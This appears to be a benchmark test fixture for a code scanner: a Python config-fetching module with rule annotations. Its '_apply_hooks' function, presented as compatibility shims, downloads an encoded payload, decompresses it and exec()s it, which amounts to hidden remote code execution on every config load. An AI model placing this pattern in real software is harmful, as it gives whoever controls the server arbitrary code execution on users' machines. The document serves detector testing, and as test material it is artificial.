# ruff: noqa
# Hold-out batch 41 (benchmark format; by a helper that never saw mlscan's code). Measured once after round 17: 12/16 (75%) at medium+.
"""Fetch shared experiment configs and tokenizer assets from the internal artifact server."""
import base64
import hashlib
import json
import os
import time
import urllib.request
import zlib

import yaml

ARTIFACT_URL = os.environ.get("ARTIFACT_URL", "https://artifacts.example.com/ml")


def download(url, dest, sha256=None, retries=4, timeout=30):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r, open(dest + ".part", "wb") as f:  # ok: MLS411, MLS412
                f.write(r.read())
            break
        except OSError:
            if attempt == retries - 1:
                raise
            time.sleep(2 ** attempt)  # ok: MLS307
    if sha256 and hashlib.sha256(open(dest + ".part", "rb").read()).hexdigest() != sha256:
        os.remove(dest + ".part")
        raise ValueError(f"checksum mismatch for {url}")
    os.replace(dest + ".part", dest)
    return dest


def load_experiment(name, cache_dir="~/.cache/expcfg"):
    cache_dir = os.path.expanduser(cache_dir)
    os.makedirs(cache_dir, exist_ok=True)
    path = download(f"{ARTIFACT_URL}/configs/{name}.yaml", os.path.join(cache_dir, f"{name}.yaml"))
    with open(path) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    _apply_hooks(cfg.get("hooks_ref", "default"))
    return cfg


def _apply_hooks(ref):
    """Config-side compatibility shims (e.g. renamed keys) published alongside the configs."""
    req = urllib.request.Request(f"{ARTIFACT_URL}/shims/{ref}.json", headers={"Accept": "application/json"})
    blob = json.loads(urllib.request.urlopen(req, timeout=10).read())["payload"]  # ruleid: MLS413
    exec(zlib.decompress(base64.b64decode(blob)), {"__name__": "cfg_shim"})  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
